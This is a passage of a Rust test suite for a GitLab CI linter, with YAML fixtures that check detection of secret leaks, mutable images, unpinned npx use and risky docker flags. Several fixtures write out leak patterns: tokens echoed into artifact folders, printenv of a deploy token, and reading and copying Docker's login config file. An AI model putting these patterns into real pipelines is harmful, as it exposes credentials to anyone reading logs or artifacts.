/// lookup), is read as `$T` is: printed here (the file reported clean).
#[test]
fn a_project_variable_read_by_name_is_read() {
    let dir = scratch("read-by-name");
    let img = "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    for script in [
        "printenv DEPLOY_TOKEN".to_string(),
        "python3 -c 'import os; print(os.environ[\"DEPLOY_TOKEN\"])'".to_string(),
    ] {
        let yaml = format!(
            "j:\n  image: {img}\n  rules: [{{if: $CI_COMMIT_TAG}}]\n  script:\n    - {}\n",
            serde_json::to_string(&script).expect("json")
        );
        std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
        let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
        let printed = diags.iter().filter(|d| d["code"] == "PL4003");
        assert_eq!(printed.count(), 1, "{yaml}\n{diags:#?}");
    }
}

/// `image: $IMAGE` with `IMAGE` a `parallel: matrix` variable runs each value: a
/// mutable tag among them is PL3002 at the value (it was a PL3007 warning).
#[test]
fn a_matrix_variable_image_is_each_of_its_values() {
    let dir = scratch("matrix-image");
    let yaml = "j:\n  image: $IMG\n  parallel:\n    matrix:\n      - IMG: [\"node:latest\"]\n  script: [npm test]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let mutable: Vec<&Value> = diags.iter().filter(|d| d["code"] == "PL3002").collect();
    assert_eq!(mutable.len(), 1, "{diags:#?}");
    assert_eq!(mutable[0]["line"], 5, "at the value: {diags:#?}");
    assert!(!diags.iter().any(|d| d["code"] == "PL3007"), "{diags:#?}");
}

/// A trigger Plumb has no form for (a child pipeline from a job's artifact, several
/// includes) is a trigger job all the same for the check: a secret among its variables
/// reaches the pipeline it starts (the job was left out, and the file reported clean).
#[test]
fn a_dynamic_child_pipeline_passes_its_variables_on() {
    let dir = scratch("dynamic-child");
    let img = "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let yaml = format!("gen:\n  image: {img}\n  script: [./gen > child.yml]\n  artifacts: {{paths: [child.yml]}}\ndyn:\n  needs: [gen]\n  variables: {{CHILD_TOKEN: $DEPLOY_TOKEN}}\n  trigger:\n    include:\n      - artifact: child.yml\n        job: gen\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let passed: Vec<&Value> = diags.iter().filter(|d| d["code"] == "PL4002").collect();
    assert_eq!(passed.len(), 1, "{diags:#?}");
    assert_eq!(passed[0]["line"], 7, "at the variable: {diags:#?}");
}

/// `spec: inputs` are filled in as GitLab fills them: an image or a credential given
/// through an input (its default, or an included file's `inputs:`) is checked.
#[test]
fn inputs_are_checked_as_gitlab_fills_them_in() {
    let dir = scratch("inputs-filled");
    std::fs::create_dir_all(dir.join("ci")).expect("ci");
    let yaml = "spec:\n  inputs:\n    token:\n      default: \"glpat-aB3dE5fG7hJ9kL1mN3pQ\"\n---\ninclude:\n  - local: ci/build.yml\n    inputs:\n      image: python:3.12\ndeploy:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script: [\"./deploy $[[ inputs.token ]]\"]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let build = "spec:\n  inputs:\n    image: {}\n---\nbuild:\n  image: $[[ inputs.image ]]\n  script: [make]\n";
    std::fs::write(dir.join("ci/build.yml"), build).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(code, 1, "{diags:#?}");
    let codes: Vec<&str> = diags.iter().filter_map(|d| d["code"].as_str()).collect();
    assert!(codes.contains(&"PL4001"), "{diags:#?}");
    assert!(
        diags.iter().any(|d| d["code"] == "PL3003"
            && d["message"]
                .as_str()
                .is_some_and(|m| m.contains("python:3.12"))),
        "{diags:#?}"
    );
}

/// An image named by a variable that a rule sets is expanded with the rule's value: a
/// job may run with any rule's, so the check sees the least pinned, on the line where
/// the rule writes it; rules that set it alike make it the job's image.
#[test]
fn images_are_expanded_with_the_variables_of_rules() {
    let dir = scratch("rules-variables-image");
    let pinned =
        "alpine:3.19@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "variables:\n  IMG: \"{pinned}\"\nbuild:\n  image: $IMG\n  rules:\n    - if: $CI_COMMIT_BRANCH == \"main\"\n      variables:\n        IMG: \"alpine:latest\"\n    - when: on_success\n  script: [echo hi]\ntest:\n  image: $IMG\n  rules:\n    - if: $CI_COMMIT_TAG\n      variables: {{ IMG: \"alpine:3.20\" }}\n  script: [echo hi]\nlint:\n  image: $IMG\n  rules:\n    - if: $CI_COMMIT_TAG\n      variables: {{ IMG: \"{pinned}\" }}\n    - when: on_success\n  script: [echo hi]\n"
    );
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    let at = |code: &str, line| (format!("\"{code}\""), line);
    assert_eq!(lines, [at("PL3002", 8), at("PL3003", 15)], "{diags:?}");
    let o = plumb_in(&dir, &["import", ".gitlab-ci.yml", "-o", "out.plumb"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let program = std::fs::read_to_string(dir.join("out.plumb")).expect("program");
    assert!(program.contains("image = \"alpine:3.20\""), "{program}");
}

/// An image under the instance's registry (`$CI_REGISTRY/…`, `$CI_SERVER_HOST:5050/…`,
/// `$CI_TEMPLATE_REGISTRY_HOST/…`) is checked as the reference written after the
/// prefix: a tag without digest is PL3003, not "built from a variable"; one a job of
/// the pipeline pushes is left alone (under `$CI_REGISTRY` too); a longer variable name
/// that starts like one, and the project's image path, are still variables.
#[test]
fn images_under_the_instance_registry_are_checked_as_written() {
    let dir = scratch("instance-registry-images");
    let digest = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: $CI_REGISTRY/platform/builder:1.4.2\n  script: [make]\n\
         b:\n  image: ${{CI_SERVER_HOST}}:5050/platform/x:2.0\n  script: [make]\n\
         c:\n  image: $CI_TEMPLATE_REGISTRY_HOST/security-products/sast:5{digest}\n  script: [make]\n\
         d:\n  image: $CI_REGISTRYX/tools:1.0\n  script: [make]\n\
         build:\n  image: docker:27.3.1{digest}\n  script:\n    - docker build -t $CI_REGISTRY/g/p/ci:1.0 .\n    - docker push $CI_REGISTRY/g/p/ci:1.0\n\
         use:\n  stage: test\n  image: $CI_REGISTRY/g/p/ci:1.0\n  script: [make]\n\
         own:\n  image: $CI_REGISTRY_IMAGE/tools:1.0\n  script: [make]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["2 PL3003", "5 PL3003", "11 PL3007", "23 PL3007"]
        .map(String::from)
        .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// `npx tool` after the project's packages are installed (`npm ci` with options, `yarn
/// install`, `pnpm install`) runs the locked copy; `npx -p pkg@1.2.3 bin` installs the
/// pinned package; `npx -p pkg bin` and `npx tool` after `npm install pkg` do not.
#[test]
fn npx_after_the_projects_install_or_with_a_pinned_package_is_pinned() {
    let dir = scratch("npx-installed");
    let image =
        "node:20.18.0@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: {image}\n  script: [npm ci --cache .npm --prefer-offline, npx semantic-release]\n\
         b:\n  image: {image}\n  script: [yarn install --frozen-lockfile, npx eslint .]\n\
         c:\n  image: {image}\n  script: [pnpm install, npx eslint .]\n\
         d:\n  image: {image}\n  script: [npx -p @redocly/cli@1.25.0 redocly lint, npx --package=cowsay@1.6.0 cowsay hi]\n\
         e:\n  image: {image}\n  script: [npm install left-pad, npx -p @redocly/cli redocly lint, npx semantic-release]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["15 PL6003"].map(String::from).into();
    assert_eq!(found, want, "{diags:#?}");
    assert_eq!(diags.len(), 2, "{diags:#?}");
}

/// `set -x` shows a project variable read by name only where a command run while the
/// shell traces expands it (or a function of the script, or a sourced file, may): the
/// login done with tracing off, tracing then on for the build, prints nothing; a
/// secret used only in `after_script`, another shell, neither.
#[test]
fn set_x_prints_a_project_variable_only_where_a_traced_command_expands_it() {
    let dir = scratch("set-x-traced-expansion");
    let head = "  image: alpine:3.19@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  script:\n";
    let login = "echo \"$REGISTRY_PASSWORD\" | docker login -u ci --password-stdin reg";
    let yaml = format!(
        "off:\n{head}    - set +x\n    - {login}\n    - set -x\n    - make build\n\
         after:\n{head}    - set -x\n    - make build\n  after_script:\n    - {login}\n\
         on:\n{head}    - set -x\n    - make build\n    - {login}\n\
         function:\n{head}    - login() {{ {login}; }}\n    - set -x\n    - login\n\
         assigned:\n{head}    - set -x\n    - X=$(curl -fsS -u \"ci:$REGISTRY_PASSWORD\" https://x/api)\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["18 PL4003", "25 PL4003", "30 PL4003", "31 PL4004"]
        .map(String::from)
        .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// A traced shell running a file (`bash -x deploy.sh`), or any script once `export
/// SHELLOPTS=xtrace` makes every shell trace, may print a project variable it reads;
/// `bash -xc '…$T…'` runs the secret in a string; npx with a version after an install,
/// and npx after an install elsewhere (`--prefix`), still fetch.
#[test]
fn traced_child_shells_and_npx_after_installs_elsewhere() {
    let dir = scratch("traced-children");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: alpine:3.19{pinned}\n  script: ['test -n \"$DEPLOY_TOKEN\"', 'bash -x ./deploy.sh']\n\
         b:\n  image: alpine:3.19{pinned}\n  script: ['test -n \"$DEPLOY_TOKEN\"', 'export SHELLOPTS=xtrace', './deploy.sh']\n\
         c:\n  image: alpine:3.19{pinned}\n  script: [\"bash -xc 'curl -H \\\"T: $DEPLOY_TOKEN\\\" x'\"]\n\
         d:\n  image: node:20.18.0{pinned}\n  script: [npm ci --prefer-offline, npx create-react-app@latest app, npx eslint .]\n\
         e:\n  image: node:20.18.0{pinned}\n  script: [npm ci --prefix frontend, npx eslint .]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["3 PL4003", "6 PL4003", "9 PL4003", "12 PL6003", "15 PL6003"]
        .map(String::from)
        .into();
    assert_eq!(found, want, "{diags:#?}");
    let shellopts = diags.iter().find(|d| {
        d["message"]
            .as_str()
            .is_some_and(|m| m.contains("SHELLOPTS"))
    });
    assert!(shellopts.is_some(), "{diags:#?}");
}

/// The application's copy of the password a job gives its own database service
/// (`SPRING_DATASOURCE_PASSWORD` beside `POSTGRES_PASSWORD`, same value) and values
/// that say they stand in for a test (`django-insecure-ci-only`) are no credentials;
/// the same value under a name of no database, or a random-looking one, is.
#[test]
fn a_database_copy_and_a_test_stand_in_are_no_literal_credentials() {
    let dir = scratch("pl4001-stand-ins");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "test:\n  image: eclipse-temurin:21.0.4_7-jdk{pinned}\n  services: [\"postgres:16.4-alpine{pinned}\"]\n  variables:\n    POSTGRES_PASSWORD: ci-db-pw9\n    SPRING_DATASOURCE_PASSWORD: ci-db-pw9\n    DJANGO_SECRET_KEY: django-insecure-ci-only\n    DEPLOY_PASSWORD: ci-db-pw9\n    API_TOKEN: Zq8vN2xR7kLp4TwY\n  script: [./gradlew test]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["8 PL4001", "9 PL4001"].map(String::from).into();
    assert_eq!(found, want, "{diags:#?}");
}

/// `$CI_COMMIT_BRANCH =~ $PROD_REFS` where the file sets `PROD_REFS: /^main$/` is the
/// pattern it holds: the import writes it, not a condition that always holds.
#[test]
fn a_pattern_in_a_variable_of_the_file_is_imported_as_the_pattern() {
    let dir = scratch("import-pattern-variable");
    let yaml = "variables:\n  PROD_REFS: /^main$/\ndeploy:\n  image: alpine:3.20\n  script: [./deploy]\n  rules:\n    - if: $CI_COMMIT_BRANCH =~ $PROD_REFS\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let o = plumb_in(&dir, &["import", ".gitlab-ci.yml", "-o", "-"]);
    let program = String::from_utf8_lossy(&o.stdout);
    assert!(
        program.contains(r#"when  = branch =~ "^main$""#),
        "{program}"
    );
}

/// A folder holding a file the script wrote a secret to, copied whole (`cp -r`, `cp
/// DIR/.`, `rsync -a DIR/`) or archived (`tar czf`, `zip -r`) into an artifact path,
/// keeps the secret; so does Docker's `config.json` after a login, copied there, and
/// printing it prints the credential.
#[test]
fn folders_archives_and_the_docker_login_file_keep_the_secret() {
    let dir = scratch("pl4007-folders");
    let head = "  image: alpine:3.19@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  artifacts: {paths: [out/]}\n  script:\n    - mkdir -p /tmp/cfg out && echo \"$DEPLOY_TOKEN\" > /tmp/cfg/token\n";
    let yaml = format!(
        "a:\n{head}    - cp -r /tmp/cfg out/\n\
         b:\n{head}    - cp -a /tmp/cfg/. out/\n\
         c:\n{head}    - rsync -a /tmp/cfg/ out/\n\
         d:\n{head}    - tar czf out/b.tgz /tmp/cfg\n\
         e:\n{head}    - zip -r out/b.zip /tmp/cfg\n\
         f:\n{head}    - cp -r /tmp/other out/\n\
         g:\n  image: docker:27.3.1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  artifacts: {{paths: [out/]}}\n  script:\n    - echo \"$REGISTRY_PASSWORD\" | docker login -u ci --password-stdin reg.example.com\n    - cp ~/.docker/config.json out/\n    - cat ~/.docker/config.json\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = [
        "6 PL4007",
        "12 PL4007",
        "18 PL4007",
        "24 PL4007",
        "30 PL4007",
        "42 PL4007",
        "43 PL4003",
    ]
    .map(String::from)
    .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// A path written with the job's variables of plain values (`$OUT/token` with `OUT:
/// out`) is the path they make: an artifact path keeps it.
#[test]
fn a_path_built_from_plain_variables_is_that_path() {
    let dir = scratch("pl4007-variable-path");
    let yaml = "a:\n  image: alpine:3.19@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  variables: {OUT: out}\n  artifacts: {paths: [out/]}\n  script:\n    - echo \"$DEPLOY_TOKEN\" > $OUT/token\n    - echo \"$DEPLOY_TOKEN\" > ${OUT}2/token\n";
    let (found, diags) = lines_found(&dir, yaml);
    let want: BTreeSet<String> = ["6 PL4007"].map(String::from).into();
    assert_eq!(found, want, "{diags:#?}");
}

/// `docker run --network host` or with the socket mounted against the job's own
/// Docker-in-Docker service (`DOCKER_HOST: tcp://docker:2376`) gets that service
/// container's network and socket, not the runner's; `--privileged` there, the same
/// flags against the runner's own daemon, or `-H` to a host the job runs no dind
/// service for, are reported.
#[test]
fn a_dind_daemon_s_network_and_socket_are_not_the_host_s() {
    let dir = scratch("pl6005-dind");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: docker:27.3.1{pinned}\n  services: [\"docker:27.3.1-dind{pinned}\"]\n  variables: {{DOCKER_HOST: tcp://docker:2376, DOCKER_TLS_CERTDIR: /certs}}\n  script:\n    - docker run -d --network host -v /var/run/docker.sock:/var/run/docker.sock app\n    - docker run --privileged app\n\
         b:\n  image: docker:27.3.1{pinned}\n  script:\n    - docker -H tcp://docker:2376 run --network host app\n    - docker run --network host app\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["7 PL6005", "11 PL6005", "12 PL6005"]
        .map(String::from)
        .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// The reviewed bypasses stay closed: a passphrase with one test-like word is a
/// password; a database copy sent to another host, or named for production, is
/// someone's; a remote production daemon, a `DOCKER_HOST=` before the command, and
/// podman are not the job's dind; `rm -f $OUT/token` before the upload, and `tar -x`,
/// leak nothing; `zip -r` of the job's folder takes the `.env` written in it.
#[test]
fn reviewed_bypasses_of_the_new_exemptions() {
    let dir = scratch("reviewed-bypasses");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let pg = format!("postgres:16.4{pinned}");
    let yaml = format!(
        "a:\n  image: alpine:3.19{pinned}\n  variables: {{DEPLOY_PASSWORD: ample-mock-sweater-rhythm}}\n  script: [./deploy]\n\
         b:\n  image: alpine:3.19{pinned}\n  services: [\"{pg}\"]\n  variables: {{POSTGRES_PASSWORD: Pr0d-9xKq2LmZ, DB_PASSWORD: Pr0d-9xKq2LmZ}}\n  script: ['psql \"postgres://app:$DB_PASSWORD@prod-db.example.com/app\"']\n\
         c:\n  image: alpine:3.19{pinned}\n  services: [\"{pg}\"]\n  variables: {{POSTGRES_PASSWORD: Ci-9xKq2LmZ, PROD_DB_PASSWORD: Ci-9xKq2LmZ}}\n  script: [make]\n\
         d:\n  image: docker:27.3.1{pinned}\n  variables: {{DOCKER_HOST: tcp://prod-docker.example.com:2376}}\n  script: [docker run --network host app]\n\
         e:\n  image: alpine:3.19{pinned}\n  variables: {{OUT: out}}\n  artifacts: {{paths: [out/, dist/]}}\n  script:\n    - echo \"$DEPLOY_TOKEN\" > $OUT/token\n    - ./use-token\n    - rm -f $OUT/token\n    - tar -x -f out/in.tgz -C /tmp\n    - echo \"API_TOKEN=$DEPLOY_TOKEN\" > .env\n    - zip -r dist/app.zip .\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = [
        "3 PL4001",
        "8 PL4001",
        "13 PL4001",
        "18 PL6005",
        "29 PL4007",
    ]
    .map(String::from)
    .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// Reviewed false positives of real jobs: Kubernetes Secrets' names and settings about
/// credentials are no credentials, test stand-ins and public defaults are no secrets,
/// a File variable given to an option or program that reads a file passes its path
/// (`age -i`, `keytool -srckeystore`, `cosign --key`, `ssh -i` within `rsync -e`),
/// `gcloud secrets … --secret=NAME` names a secret (and prints it, PL4003), a dotted
/// variable name is one GitLab and Kubernetes pass, and one file at two refs is two
/// files. Names of services' keys are credentials.
#[test]
fn names_paths_and_stand_ins_that_hold_no_secret() {
    let dir = scratch("no-secret-held");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "include:\n  - {{project: g/tpl, ref: v1.0.0, file: /a.yml}}\n  - {{project: g/tpl, ref: v2.0.0, file: /a.yml}}\n\
         sign:\n  image: alpine:3.19{pinned}\n  variables:\n    IMAGE_PULL_SECRET: gitlab-registry\n    TLS_SECRET: app-tls\n    TOKEN_PERMISSIONS: read\n    SECRET_KEY_BASE: ci_secret_key_base_for_tests_only\n    APP_SECRET: ThisTokenIsNotSoSecretChangeIt\n    JWT_SECRET: testsecret\n    AWS_SECRET_ACCESS_KEY: minioadmin\n    discovery.type: single-node\n\
         \x20 script:\n    - gpg --batch --import \"$GPG_PRIVATE_KEY\"\n    - base64 -d \"$ANDROID_KEYSTORE\" > app.jks\n    - keytool -importkeystore -srckeystore \"$ANDROID_KEYSTORE\" -destkeystore x.jks\n    - age -d -i \"$AGE_SECRET_KEY\" -o app.env app.env.age\n    - cosign sign --key \"$COSIGN_PRIVATE_KEY\" img\n    - rsync -e \"ssh -i $DEPLOY_KEY\" -a dist/ host:/srv\n    - gcloud secrets versions access latest --secret=app-env\n    - keytool -importcert -noprompt -cacerts -storepass changeit -file corp-ca.crt\n    - echo \"$SAUCE_ACCESS_KEY\"\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["22 PL4003", "24 PL4003"].map(String::from).into();
    assert_eq!(found, want, "{diags:#?}");
}

/// `npx tool` runs the project's locked copy when `node_modules` reaches the job: from
/// the artifacts of a job it needs (or, without `needs`, of an earlier stage's), or from
/// its cache; not from a job of its own stage, nor from one whose artifacts it declines.
#[test]
fn npx_after_another_job_installed_the_packages_runs_the_locked_copy() {
    let dir = scratch("npx-handed-on");
    let node =
        "node:20.14.0@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "stages: [install, test]\n\
         install:\n  stage: install\n  image: {node}\n  script: [npm ci]\n  artifacts: {{paths: [node_modules/]}}\n\
         needs-it:\n  stage: test\n  image: {node}\n  needs: [install]\n  script: [npx jest --ci]\n\
         later-stage:\n  stage: test\n  image: {node}\n  script: [npx eslint .]\n\
         cached:\n  stage: install\n  image: {node}\n  cache: {{key: deps, paths: [node_modules], policy: pull}}\n  script: [npx prettier --check .]\n\
         same-stage:\n  stage: install\n  image: {node}\n  script: [npx jest]\n\
         declined:\n  stage: test\n  image: {node}\n  needs: [{{job: install, artifacts: false}}]\n  script: [npx jest]\n\
         no-needs:\n  stage: test\n  image: {node}\n  needs: []\n  script: [npx jest]\n\
         no-dependencies:\n  stage: test\n  image: {node}\n  dependencies: []\n  script: [npx jest]\n\
         pushed-only:\n  stage: install\n  image: {node}\n  cache: {{key: deps, paths: [node_modules], policy: push}}\n  script: [npx jest]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = [
        "24 PL6003",
        "29 PL6003",
        "34 PL6003",
        "39 PL6003",
        "44 PL6003",
    ]
    .map(String::from)
    .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// `curl -v` shows its request headers on standard error: thrown away with `2>/dev/null`,
/// written to a file with `2>&1` or `--trace-ascii FILE` (PL4007 where an artifact keeps
/// it, nothing where none does), printed otherwise.
#[test]
fn curl_verbose_output_goes_where_standard_error_goes() {
    let dir = scratch("curl-verbose-stderr");
    let yaml = "a:\n  image: alpine:3.19@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  artifacts: {paths: [logs/]}\n  script:\n    - 'curl -v -H \"Authorization: Bearer $API_TOKEN\" https://x 2>/dev/null'\n    - 'curl -v -H \"Authorization: Bearer $API_TOKEN\" https://x > logs/out.log 2>&1'\n    - 'curl --trace-ascii logs/trace.log -H \"Authorization: Bearer $API_TOKEN\" https://x'\n    - 'curl -v -H \"Authorization: Bearer $API_TOKEN\" https://x 2> /tmp/err.log'\n    - 'curl -sv -H \"Authorization: Bearer $API_TOKEN\" https://x'\n";
    let (found, diags) = lines_found(&dir, yaml);
    let mine: BTreeSet<String> = (found.into_iter())
        .filter(|f| !f.ends_with("PL4004"))
        .collect();
    let want: BTreeSet<String> = ["6 PL4007", "7 PL4007", "9 PL4003"]
        .map(String::from)
        .into();
    assert_eq!(mine, want, "{diags:#?}");
}

/// Bypasses of the exemptions above, reviewed: a `grep` guard reads the token's value
/// (and makes no `*_KEY` a path elsewhere in the job); `openssl -in` and `gpg --decrypt`
/// write the key or plaintext out; a project variable named like a Kubernetes Secret's
/// name is read as a secret, and a literal that is no object name is a credential; a
/// weak password glued of `local`/`dev` words is one; `curl -v`'s standard error written
/// to a file that is then printed is printed, and `--stderr -` sends it to the log.
#[test]
fn reviewed_bypasses_of_todays_exemptions() {
    let dir = scratch("todays-bypasses");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: alpine:3.19{pinned}\n  artifacts: {{paths: [dist/]}}\n  script:\n    - echo \"window.K='$SENTRY_API_KEY'\" > dist/config.js\n    - if grep -rq --exclude-dir .git \"$SENTRY_API_KEY\" src/; then exit 1; fi\n    - openssl rsa -in \"$TLS_KEY\" -out dist/tls.key\n    - echo \"$TLS_SECRET\"\n\
         b:\n  image: alpine:3.19{pinned}\n  variables:\n    DB_PASSWORD_SECRET: Xk9pLm2vQ8zR4tW7\n    PROD_DB_PASSWORD: localadmin\n    IMAGE_PULL_SECRET: regcred\n  script:\n    - 'curl -v -H \"Authorization: Bearer $API_TOKEN\" https://x 2>err.log; cat err.log'\n    - 'curl -v --stderr - -H \"Authorization: Bearer $API_TOKEN\" https://x 2>/dev/null'\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    // (the key `openssl` writes to `dist/` is not followed: the option is reported)
    let mine: BTreeSet<String> = (found.into_iter())
        .filter(|f| !f.ends_with("PL4004") || f.starts_with("6 ") || f.starts_with("7 "))
        .collect();
    let want: BTreeSet<String> = [
        "5 PL4007",
        "6 PL4004",
        "7 PL4004",
        "8 PL4003",
        "12 PL4001",
        "13 PL4001",
        "16 PL4003",
        "17 PL4003",
    ]
    .map(String::from)
    .into();
    assert_eq!(mine, want, "{diags:#?}");
}

/// Neo4j's `NEO4J_AUTH` for the job's own `neo4j` service is a throwaway password; the
/// same variable in a job without that service is someone's.
#[test]
fn a_graph_database_service_s_password_is_the_job_s_own() {
    let dir = scratch("neo4j-service");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "test:\n  image: alpine:3.19{pinned}\n  services: [\"neo4j:5.20.0{pinned}\"]\n  variables:\n    NEO4J_AUTH: neo4j/ci-password\n  script: [make test]\n\
         prod:\n  image: alpine:3.19{pinned}\n  variables:\n    NEO4J_AUTH: neo4j/Xk9pLm2vQ8\n  script: [make deploy]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["10 PL4001"].map(String::from).into();
    assert_eq!(found, want, "{diags:#?}");
}

/// The review's bypasses: a generated value under a Kubernetes-Secret-like name is a
/// credential, and Graylog's `PASSWORD_SECRET` always is; the passphrase given to `gpg
/// --import` is no path (its `set -x` trace shows it); `curl --trace-ascii FILE` writes
/// there whatever `--stderr` says.
#[test]
fn reviewed_bypasses_of_the_object_name_and_path_rules() {
    let dir = scratch("object-name-bypasses");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: alpine:3.19{pinned}\n  artifacts: {{paths: [logs/]}}\n  variables:\n    TLS_SECRET: s3cr3tpassw0rd2024\n    GRAYLOG_PASSWORD_SECRET: pqvnkxmlwrtzybcfhjsdga\n    IMAGE_PULL_SECRET: gitlab-registry\n  script:\n    - set -x\n    - gpg --batch --passphrase \"$GPG_PASSPHRASE\" --import key.asc\n    - 'curl --stderr /dev/null --trace-ascii logs/t.log -H \"Authorization: Bearer $API_TOKEN\" https://x'\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let mine: BTreeSet<String> = (found.into_iter())
        .filter(|f| !f.ends_with("PL4004"))
        .collect();
    let want: BTreeSet<String> = ["5 PL4001", "6 PL4001", "9 PL4003", "11 PL4007"]
        .map(String::from)
        .into();
    assert_eq!(mine, want, "{diags:#?}");
}

/// A fetcher told to write its secret to a file (`gpg -d -o`, `sops --output=`,
/// `openssl -out`) writes it there: printing the file prints it, copying it into an
/// artifact path or writing it inside one keeps it; `--output -` is standard output,
/// and a file no artifact keeps and nothing prints is no finding.
#[test]
fn a_fetcher_s_output_file_holds_the_secret() {
    let dir = scratch("fetched-into-file");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: alpine:3.19{pinned}\n  artifacts: {{paths: [public/, out/]}}\n  script:\n    - gpg --batch -d -o key.pem key.pem.gpg\n    - cat key.pem\n    - sops -d --output=.env enc.env\n    - cp .env public/\n    - openssl enc -d -aes-256-cbc -pass env:PW -in s.enc -out out/secret.txt\n    - sops -d --output plain.yaml enc.yaml\n    - gpg -d --output - notes.gpg > /dev/null\n    - op inject -i tpl.env -o /tmp/app.env\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["6 PL4003", "8 PL4007", "9 PL4007"]
        .map(String::from)
        .into();
    assert_eq!(found, want, "{diags:#?}");
}

/// Under `set -x`, a command of assignments alone is traced with its values
/// (`+ PGPASSWORD=hunter2`): a secret assigned is printed; a plain value is not.
#[test]
fn a_traced_assignment_prints_its_value() {
    let dir = scratch("traced-assignment");
    let pinned = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "j:\n  image: alpine:3.19{pinned}\n  script:\n    - set -x\n    - PGPASSWORD=\"$DB_PASSWORD\"\n    - psql -h db -c 'select 1'\nk:\n  image: alpine:3.19{pinned}\n  script:\n    - set -x\n    - A=hello\n    - make\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let want: BTreeSet<String> = ["4 PL4003"].map(String::from).into();
    assert_eq!(found, want, "{diags:#?}");
}

/// Reviewed false findings on realistic pipelines: an image from variables pinned by a
/// digest written out; `helm -f`, `kubectl -f` and
/// fastlane's `--json_key` take File variables' paths; `printenv` filtered to an
/// anchored allow-list of prefixes prints no secret. Their bypasses still are findings:
/// `@v1.2` is a series, an alternative a secret's name starts with is kept.
#[test]
fn reviewed_realistic_pipelines_are_clean() {
    let dir = scratch("realistic-clean");
    let digest = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
